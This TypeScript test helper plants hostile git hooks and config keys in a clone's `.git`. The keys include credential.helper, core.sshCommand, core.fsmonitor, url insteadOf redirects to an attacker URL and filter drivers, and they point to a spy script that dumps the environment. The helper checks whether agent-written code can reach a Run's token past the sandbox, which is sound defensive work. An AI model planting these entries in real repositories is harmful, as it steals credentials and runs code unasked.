/**
 * What hostile code in a worktree writes into the clone's `.git` to reach the Run's token: every
 * hook git runs, and each config key that starts a program or sends a request elsewhere. Each
 * planted program writes its environment, arguments and stdin into `evidence/`, so a test can tell
 * whether it ran and whether the token reached it. Used by git-isolation.test.ts and the chaos
 * canary (ADR 0083, ADR 0150).
 */
import { chmod, mkdir, readFile, writeFile } from "node:fs/promises";
import { join } from "node:path";

/** Every hook name in githooks(5) of git 2.39. */
export const HOOKS = [
  "applypatch-msg",
  "pre-applypatch",
  "post-applypatch",
  "pre-commit",
  "pre-merge-commit",
  "prepare-commit-msg",
  "commit-msg",
  "post-commit",
  "pre-rebase",
  "post-checkout",
  "post-merge",
  "pre-push",
  "pre-receive",
  "update",
  "proc-receive",
  "post-receive",
  "post-update",
  "reference-transaction",
  "push-to-checkout",
  "pre-auto-gc",
  "post-rewrite",
  "sendemail-validate",
  "fsmonitor-watchman",
  "p4-changelist",
  "p4-prepare-changelist",
  "p4-post-changelist",
  "p4-pre-submit",
  "post-index-change",
] as const;

/** The token as it may travel: itself, the git Basic credential in base64, and URL-encoded. */
export function tokenForms(token: string): string[] {
  return [token, Buffer.from(`x-access-token:${token}`).toString("base64"), encodeURIComponent(token), Buffer.from(token).toString("base64")];
}

export interface AttackInput {
  /** The clone's top level (its `.git` is a directory); null: the planting script finds it from its cwd, a worktree. */
  root: string | null;
  /** Where planted programs write what they saw. */
  evidence: string;
  /** URL prefix of the real remote, and where the attacker wants requests to go instead. */
  redirectFrom: string;
  redirectTo: string;
  /** A folder for the attack's own files (the program, the included config). */
  scratch: string;
  /** Where the script writes what it tried (default `scratch`): somewhere a sandboxed Check can write (ADR 0341). */
  records?: string;
}

export interface Attack {
  /** A node script that plants everything (for a Check to run). */
  script: string;
  /** Plants everything now (as the agent would, with a file write). */
  plant: () => Promise<void>;
  /** The config keys planted, for the figures. */
  keys: string[];
  /** The filter and merge-driver keys the script plants too (with `info/attributes` naming them; ADR 0223). */
  driverKeys: string[];
}

export async function plantAttack(input: AttackInput): Promise<Attack> {
  const spy = join(input.scratch, "spy.sh");
  // Never reads stdin: a git started by a process that keeps its stdin open would wait forever.
  await writeFile(spy, `#!/bin/sh\nf="${input.evidence}/$(basename "$0")-$$"\nenv > "$f.env"\necho "$@" > "$f.args"\nexit 0\n`);
  await chmod(spy, 0o755);
  const hooksDir = join(input.scratch, "planted-hooks");
  const included = join(input.scratch, "included.gitconfig");
  const keys = [
    `url.${input.redirectTo}.insteadOf`,
    "http.proxy",
    "core.sshCommand",
    "credential.helper",
    "include.path",
    "core.fsmonitor",
    "core.askPass",
    "core.hooksPath",
  ];
  const config = [
    `[url "${input.redirectTo}"]`,
    `\tinsteadOf = ${input.redirectFrom}`,
    "[http]",
    `\tproxy = ${input.redirectTo}`,
    "[core]",
    `\tsshCommand = ${spy}`,
    `\tfsmonitor = ${spy}`,
    `\taskPass = ${spy}`,
    `\thooksPath = ${hooksDir}`,
    "[credential]",
    `\thelper = !${spy}`,
    "[include]",
    `\tpath = ${included}`,
    "",
  ].join("\n");
  // The included file redirects too, so a Run that ignores only the clone's own lines is still caught.
  await writeFile(included, `[url "${input.redirectTo}"]\n\tpushInsteadOf = ${input.redirectFrom}\n[http]\n\tproxy = ${input.redirectTo}\n`);
  const hookBody = `#!/bin/sh\nexec ${spy} "$@"\n`;
  const plant = async (): Promise<void> => {
    if (!input.root) throw new Error("plant() needs the clone's root");
    const gitDir = join(input.root, ".git");
    const current = await readFile(join(gitDir, "config"), "utf8");
    if (!current.includes(spy)) await writeFile(join(gitDir, "config"), current + config);
    for (const dir of [join(gitDir, "hooks"), hooksDir]) {
      await mkdir(dir, { recursive: true });
      for (const hook of HOOKS) {
        await writeFile(join(dir, hook), hookBody);
        await chmod(join(dir, hook), 0o755);
      }
    }
  };
  // The script (a Check's, so code the agent wrote) also defines a filter and a merge driver, and
  // records what it could write: in the sandbox (ADR 0290) every write is refused.
  const driverKeys = ["filter.canary.clean", "filter.canary.smudge", "filter.canary.process", "merge.canary.driver"];
  const drivers = `[filter "canary"]\n\tclean = ${spy}\n\tsmudge = ${spy}\n\tprocess = ${spy}\n[merge "canary"]\n\tdriver = ${spy} %O %A %B\n`;
  const script = join(input.scratch, "plant.js");
  await writeFile(
    script,
    [
      `const fs = require("node:fs"), path = require("node:path");`,
      input.root
        ? `const gitDir = ${JSON.stringify(join(input.root, ".git"))};`
        : // A worktree's .git file names .git/worktrees/<lane>; the shared .git is two folders up.
          `const gitDir = path.resolve(fs.readFileSync(".git", "utf8").replace(/^gitdir: /, "").trim(), "..", "..");`,
      // Counted: the writes into the clone's .git (a hooksPath folder of the attacker's own is not).
      `const record = { tried: 0, written: 0 };`,
      `const attempt = (write, counted = true) => { if (counted) record.tried += 1; try { write(); if (counted) record.written += 1; } catch {} };`,
      `const cfg = path.join(gitDir, "config");`,
      `const current = fs.readFileSync(cfg, "utf8");`,
      `if (!current.includes(${JSON.stringify(spy)})) attempt(() => fs.writeFileSync(cfg, current + ${JSON.stringify(config + drivers)}));`,
      `attempt(() => { fs.mkdirSync(path.join(gitDir, "info"), { recursive: true }); fs.appendFileSync(path.join(gitDir, "info", "attributes"), "*.canary filter=canary merge=canary\\n"); });`,
      `for (const dir of [path.join(gitDir, "hooks"), ${JSON.stringify(hooksDir)}]) {`,
      `  try { fs.mkdirSync(dir, { recursive: true }); } catch {}`,
      `  for (const hook of ${JSON.stringify(HOOKS)}) attempt(() => fs.writeFileSync(path.join(dir, hook), ${JSON.stringify(hookBody)}, { mode: 0o755 }), dir.startsWith(gitDir));`,
      `}`,
      // In a sandbox every Check is pid 2: the time and a random part keep the records apart.
      `fs.mkdirSync(${JSON.stringify(input.records ?? input.scratch)}, { recursive: true });`,
      `fs.writeFileSync(path.join(${JSON.stringify(input.records ?? input.scratch)}, "plant-" + Date.now() + "-" + Math.random().toString(36).slice(2) + ".json"), JSON.stringify(record));`,
      "",
    ].join("\n"),
  );
  return { script, plant, keys, driverKeys };
}
